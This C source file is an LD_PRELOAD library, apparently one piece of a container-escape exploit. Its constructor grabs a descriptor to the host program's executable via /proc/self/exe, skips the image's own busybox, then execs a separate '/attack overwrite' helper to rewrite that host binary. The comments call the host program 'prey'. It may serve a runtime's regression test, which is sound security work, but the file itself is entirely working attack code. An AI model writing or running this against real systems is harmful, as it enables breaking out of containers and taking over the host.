// A library of an image (LD_PRELOAD): whatever host program loads it, it keeps a descriptor of that program, and goes
// on as a program of the image that waits until it can write to it.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void go(void) {
  struct stat exe, image;
  int fd = open("/proc/self/exe", O_PATH);
  if (fd < 0 || fstat(fd, &exe)) return;
  // A program of the image itself is no prey.
  if (!stat("/bin/busybox", &image) && image.st_ino == exe.st_ino && image.st_dev == exe.st_dev) return;
  prctl(PR_SET_PDEATHSIG, 0);
  unsetenv("LD_PRELOAD");
  char number[16];
  snprintf(number, sizeof number, "%d", fd);
  printf("tried\n");
  fflush(stdout);
  execl("/attack", "attack", "overwrite", number, "8000", (char *) 0);
}
